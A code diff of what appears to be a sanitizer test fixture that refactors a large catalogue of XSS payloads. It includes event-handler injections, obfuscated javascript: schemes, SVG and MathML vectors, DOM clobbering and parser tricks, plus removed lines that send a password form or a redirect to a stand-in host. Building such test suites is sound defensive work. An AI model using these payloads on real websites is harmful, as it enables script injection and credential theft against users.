@@ -1,3 +1,5 @@
+import { clobbering, pageWide, requests, tricks, vectors } from './html-tricks';
+
 /** What every payload tries to do; tests read `window.__xss`. */
 export const CODE = 'window.__xss=1';
 /** The host that every payload tries to reach; reserved, so that nothing answers. */
@@ -6,73 +8,23 @@ export const FOREIGN = 'https://foreign.invalid';
 const SCRIPT = `<script>${CODE}</script>`;
 const IMAGE = `<img src=x onerror=${CODE}>`;
 
+/** The entries of a text, which semicolons part. */
+const list = (text: string) => text.trim().split(/\s*;\s*/);
+
 /** Elements that call a handler by themselves, or when a reader comes near them. */
-const HANDLERS = [
-  ...[
-    'img src=x|onerror',
-    'img src=x|onload',
-    'image src=x|onerror',
-    'svg|onload',
-    'svg|onbegin',
-    'body|onload',
-  ],
-  ...[
-    'body|onpageshow',
-    'body|onhashchange',
-    'body|onscroll',
-    'body|onresize',
-    'body|onfocus',
-    'html|onclick',
-  ],
-  ...[
-    'input autofocus|onfocus',
-    'textarea autofocus|onfocus',
-    'select autofocus|onfocus',
-    'keygen autofocus|onfocus',
-  ],
-  ...[
-    'details open|ontoggle',
-    'marquee|onstart',
-    'marquee|onfinish',
-    'video src=x|onerror',
-    'audio src=x|onerror',
-  ],
-  ...[
-    'video autoplay|oncanplay',
-    'source src=x|onerror',
-    'track src=x|onerror',
-    'object data=x|onerror',
-    'embed src=x|onload',
-  ],
-  ...[
-    'iframe|onload',
-    'frameset|onload',
-    'style|onload',
-    'link rel=stylesheet href=x|onerror',
-    'script src=x|onerror',
-  ],
-  ...[
-    'p|onclick',
-    'p|onmouseover',
-    'div|onpointerenter',
-    'a href=#|onfocus',
-    'b style=animation-name:x|onanimationstart',
-  ],
-  ...[
-    'div style=transition:1s|ontransitionend',
-    'div popover|onbeforetoggle',
-    'form|onsubmit',
-    'td|oncopy',
-    'li|ondrag',
-  ],
-  ...[
-    'h2|oncontextmenu',
-    'em|onwheel',
-    'x-y contenteditable|onbeforeinput',
-    'dialog open|onclose',
-    'meter|onkeydown',
-  ],
-].map((row) => row.split('|'));
+const HANDLERS = list(`
+  img src=x|onerror ; img src=x|onload ; image src=x|onerror ; svg|onload ; svg|onbegin ;
+  body|onload ; body|onpageshow ; body|onhashchange ; body|onscroll ; body|onresize ; body|onfocus ;
+  html|onclick ; input autofocus|onfocus ; textarea autofocus|onfocus ; select autofocus|onfocus ;
+  keygen autofocus|onfocus ; details open|ontoggle ; marquee|onstart ; marquee|onfinish ;
+  video src=x|onerror ; audio src=x|onerror ; video autoplay|oncanplay ; source src=x|onerror ;
+  track src=x|onerror ; object data=x|onerror ; embed src=x|onload ; iframe|onload ; frameset|onload ;
+  style|onload ; link rel=stylesheet href=x|onerror ; script src=x|onerror ; p|onclick ;
+  p|onmouseover ; div|onpointerenter ; a href=#|onfocus ; b style=animation-name:x|onanimationstart ;
+  div style=transition:1s|ontransitionend ; div popover|onbeforetoggle ; form|onsubmit ; td|oncopy ;
+  li|ondrag ; h2|oncontextmenu ; em|onwheel ; x-y contenteditable|onbeforeinput ;
+  dialog open|onclose ; meter|onkeydown
+`).map((row) => row.split('|'));
 const handlers = HANDLERS.flatMap(([tag = '', event = ''], at) => {
   const name = at % 3 === 0 ? event.toUpperCase() : event;
   const gap = [' ', '\n', '/', '\t', '\f'][at % 5] ?? ' ';
@@ -81,102 +33,54 @@ const handlers = HANDLERS.flatMap(([tag = '', event = ''], at) => {
 
 /** Ways to write the scheme so that a filter does not see it. */
 export const SCRIPT_ADDRESSES = [
-  ...[
-    'javascript:',
-    'JavaScript:',
-    'JAVASCRIPT:',
-    ' javascript:',
-    '\tjavascript:',
-    '\njavascript:',
-    '\0javascript:',
-  ],
-  ...[
-    'java\tscript:',
-    'java\nscript:',
-    'java\r\nscript:',
-    'j\na\nv\na\ns\nc\nr\ni\np\nt:',
-    'javascript\t:',
-    'javascript&colon;',
-  ],
-  ...[
-    'java&Tab;script:',
-    'java&NewLine;script:',
-    '&#106;avascript:',
-    '&#x6A;avascript:',
-    '&#0000106avascript:',
-    '&#x6a&#x61vascript:',
-  ],
-  ...[
-    '&#1;javascript:',
-    '&#14;javascript:',
-    '&#x20;javascript:',
-    '\u00a0javascript:',
-    '\u200bjavascript:',
-    '\ufeffjavascript:',
-  ],
-  ...[
-    '\u2028javascript:',
-    'java\u00adscript:',
-    'javascript:/*--></title>*/',
-    'javascript://a.example/%0a',
-    'feed:javascript:',
-  ],
-  ...['view-source:javascript:', 'vbscript:', 'livescript:', 'mocha:', 'jar:javascript:'],
+  'javascript:',
+  'JavaScript:',
+  'JAVASCRIPT:',
+  ' javascript:',
+  '\tjavascript:',
+  '\njavascript:',
+  '\0javascript:',
+  'java\tscript:',
+  'java\nscript:',
+  'java\r\nscript:',
+  'j\na\nv\na\ns\nc\nr\ni\np\nt:',
+  'javascript\t:',
+  'javascript&colon;',
+  'java&Tab;script:',
+  'java&NewLine;script:',
+  '&#106;avascript:',
+  '&#x6A;avascript:',
+  '&#0000106avascript:',
+  '&#x6a&#x61vascript:',
+  '&#1;javascript:',
+  '&#14;javascript:',
+  '&#x20;javascript:',
+  '\u00a0javascript:',
+  '\u200bjavascript:',
+  '\ufeffjavascript:',
+  '\u2028javascript:',
+  'java\u00adscript:',
+  'javascript:/*--></title>*/',
+  'javascript://a.example/%0a',
+  'feed:javascript:',
+  'view-source:javascript:',
+  'vbscript:',
+  'livescript:',
+  'mocha:',
+  'jar:javascript:',
 ].map((scheme) => `${scheme}${CODE}`);
 const links = SCRIPT_ADDRESSES.map((address) => `<a href="${address}">text</a>`);
 
 /** Every attribute that takes an address. */
-const CARRIERS = [
-  ...[
-    'iframe src',
-    'frame src',
-    'object data',
-    'embed src',
-    'form action',
-    'button formaction',
-    'input type=submit formaction',
-  ],
-  ...[
-    'input type=image src',
-    'area href',
-    'base href',
-    'link rel=import href',
-    'link rel=stylesheet href',
-    'img src',
-    'img srcset',
-  ],
-  ...[
-    'img lowsrc',
-    'img dynsrc',
-    'img longdesc',
-    'video src',
-    'video poster',
-    'audio src',
-    'source src',
-    'track src',
-    'body background',
-  ],
-  ...[
-    'table background',
-    'td background',
-    'blockquote cite',
-    'q cite',
-    'ins cite',
-    'applet code',
-    'isindex action',
-    'bgsound src',
-  ],
-  ...[
-    'html manifest',
-    'head profile',
-    'command icon',
-    'a ping',
-    'portal src',
-    'fencedframe src',
-    'div itemid',
-    'menuitem icon',
-  ],
-];
+const CARRIERS = list(`
+  iframe src ; frame src ; object data ; embed src ; form action ; button formaction ;
+  input type=submit formaction ; input type=image src ; area href ; base href ; link rel=import href ;
+  link rel=stylesheet href ; img src ; img srcset ; img lowsrc ; img dynsrc ; img longdesc ;
+  video src ; video poster ; audio src ; source src ; track src ; body background ; table background ;
+  td background ; blockquote cite ; q cite ; ins cite ; applet code ; isindex action ; bgsound src ;
+  html manifest ; head profile ; command icon ; a ping ; portal src ; fencedframe src ; div itemid ;
+  menuitem icon
+`);
 const carriers = CARRIERS.map(
   (carrier) => `<${carrier}="javascript:${CODE}">text</${carrier.split(' ')[0]}>`,
 );
@@ -236,135 +140,18 @@ const mutations = [
   `<option><style></option></select>${IMAGE}</style>`,
 ];
 
-/** Elements of other vocabularies, and what moves them. */
-const vectors = [
-  `<svg>${SCRIPT}</svg>`,
-  `<svg><script href="data:,${CODE}"/></svg>`,
-  `<svg><a xlink:href="javascript:${CODE}"><text>a</text></a></svg>`,
-  `<svg><a><animate attributeName=href values="javascript:${CODE}"/><text>a</text></a></svg>`,
-  `<svg><set attributeName=href to="javascript:${CODE}"/></svg>`,
-  `<svg><animate onbegin=${CODE} attributeName=x dur=1s></svg>`,
-  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${CODE}'/>#x"></svg>`,
-  `<svg><image href="${FOREIGN}/a.png"/></svg>`,
-  `<svg><handler>${CODE}</handler></svg>`,
-  `<math href="javascript:${CODE}">a</math>`,
-  `<math><maction actiontype="statusline#${FOREIGN}" xlink:href="javascript:${CODE}">a</maction></math>`,
-  `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${CODE}</script></annotation-xml></semantics></math>`,
-];
-
-/** Names that hide what the page itself uses. */
-const clobbering = [
-  ...[
-    'id=root',
-    'id=first-paint',
-    'id=preload',
-    'name=location',
-    'name=body',
-    'name=cookie',
-    'id=getElementById',
-  ],
-  ...[
-    'id=__rcepEarly',
-    'name=__proto__',
-    'id=constructor',
-    'name=defaultView',
-    'class=overlay',
-    'slot=x',
-    'is=x-y',
-    'part=x',
-  ],
-].map((name, at) =>
-  at % 2 === 0
-    ? `<img ${name}><p ${name}>a</p>`
-    : `<form ${name}><input ${name}></form><a ${name} href=#>a</a>`,
-);
-
-const pageWide = [
-  `<meta http-equiv=refresh content="0;url=${FOREIGN}">`,
-  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
-  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
-  `<meta name=referrer content=unsafe-url>`,
-  `<base href="${FOREIGN}/"><a href="a">a</a>`,
-  `<base target=_top><a href="https://a.example">a</a>`,
-  `<form action="${FOREIGN}"><input name=password><button>sign in</button></form>`,
-  `<form id=x></form><button form=x formaction="${FOREIGN}">a</button>`,
-  `<a href="https://a.example" target=_top rel=opener ping="${FOREIGN}">a</a>`,
-  `<html><head><title>x</title></head><body onload=${CODE}><p>a</p></body></html>`,
-  `<link rel=prefetch href="${FOREIGN}/a"><link rel=preconnect href="${FOREIGN}"><link rel=dns-prefetch href="${FOREIGN}">`,
-  `<dialog open><form method=dialog><button value="${CODE}">a</button></form></dialog>`,
-];
-
-/** Pictures, films and the like that would tell a host who reads. */
-const requests = [
-  ...[
-    '<img src="%">',
-    '<img srcset="% 1x">',
-    '<img loading=eager src=%>',
-    '<picture><source srcset="%"><img></picture>',
-  ],
-  ...[
-    '<video src="%" autoplay></video>',
-    '<video poster="%"></video>',
-    '<audio src="%" autoplay></audio>',
-    '<object data="%"></object>',
-  ],
-  ...[
-    '<embed src="%">',
-    '<iframe src="%"></iframe>',
-    '<input type=image src="%">',
-    '<script src="%"></script>',
-  ],
-  ...[
-    '<img src="//foreign.invalid/a">',
-    '<img src="\\\\foreign.invalid\\a">',
-    '<img src="https:foreign.invalid/a">',
-  ],
-  ...[
-    '<table background="%"><tr><td>a</td></tr></table>',
-    '<a href="https://user:pass@foreign.invalid/">a</a>',
-  ],
-].map((html) => html.replace('%', `${FOREIGN}/a`));
-
-/** What reads as markup to one parser and as text to another. */
-const tricks = [
-  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
-  `<script/x>${CODE}</script>`,
-  `<script\n>${CODE}</script\n>`,
-  `<SCRIPT>${CODE}</SCRIPT>`,
-  `<script>${CODE}`,
-  `<<script>${CODE}//<</script>`,
-  `<img src="x\` \`<script>${CODE}</script>"\` \`>`,
-  `<img """>${SCRIPT}">`,
-  `<p a='>' ${IMAGE}>a</p>`,
-  `<!-- --!>${IMAGE} -->`,
-  `<!--><img src=x onerror=${CODE}>-->`,
-  `<!--[if IE]>${SCRIPT}<![endif]-->`,
-  `<?xml version="1.0"?>${IMAGE}`,
-  `<!DOCTYPE html [<!ENTITY x "${IMAGE}">]>&x;`,
-  `</p${IMAGE}>`,
-  `<plaintext>${SCRIPT}`,
-  `<a href="https://a.example/&quot; onmouseover=&quot;${CODE}">a</a>`,
-  `<img alt="&lt;script&gt;${CODE}&lt;/script&gt;">`,
-  `${'<div>'.repeat(600)}${IMAGE}`,
-  `\u202e${SCRIPT}\u202c`,
-  `<img src=x onerror=${CODE}`,
-  `&lt;script&gt;${CODE}&lt;/script&gt;`,
-];
-
 /** HTML that tries to act, written from the public categories of such tries. */
 export const HTML_PAYLOADS: readonly string[] = [
-  ...[
-    handlers,
-    links,
-    carriers,
-    data,
-    framed,
-    styles,
-    mutations,
-    vectors,
-    clobbering,
-    pageWide,
-    requests,
-    tricks,
-  ],
+  handlers,
+  links,
+  carriers,
+  data,
+  framed,
+  styles,
+  mutations,
+  vectors,
+  clobbering,
+  pageWide,
+  requests,
+  tricks,
 ].flat();
